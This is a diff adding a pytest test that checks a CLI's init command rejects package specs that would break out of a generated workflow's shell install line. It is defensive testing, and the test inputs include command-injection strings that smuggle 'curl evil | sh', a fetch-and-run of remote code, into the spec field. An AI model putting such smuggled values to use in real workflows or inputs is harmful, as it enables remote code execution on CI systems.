@@ -115,3 +115,12 @@ def test_one_profile_option_takes_its_choices_from_the_rules_in_use(tmp_path):
     assert check_profile(renamed, "box-cpu").name == "box-cpu"
     with pytest.raises(click.BadParameter, match="defines box-gpu, box-cpu"):
         check_profile(renamed, "cpu")
+
+
+def test_init_refuses_a_spec_that_would_break_out_of_the_workflows_install_line(tmp_path):
+    """The pinned spec lands verbatim in a single-quoted word of each workflow's shell step: a quote, a
+    newline (a new YAML key or shell line) or another package is refused, and nothing is written."""
+    for spec in ("evalbot @ x\nrun: curl evil | sh", "evalbot @ x'; curl evil | sh; '", "torch==2.0"):
+        r = CliRunner().invoke(main, ["init", str(tmp_path / "c"), "--evalbot", spec])
+        assert r.exit_code == 2 and "a pip requirement for evalbot" in r.output, (spec, r.output)
+    assert not (tmp_path / "c").exists()
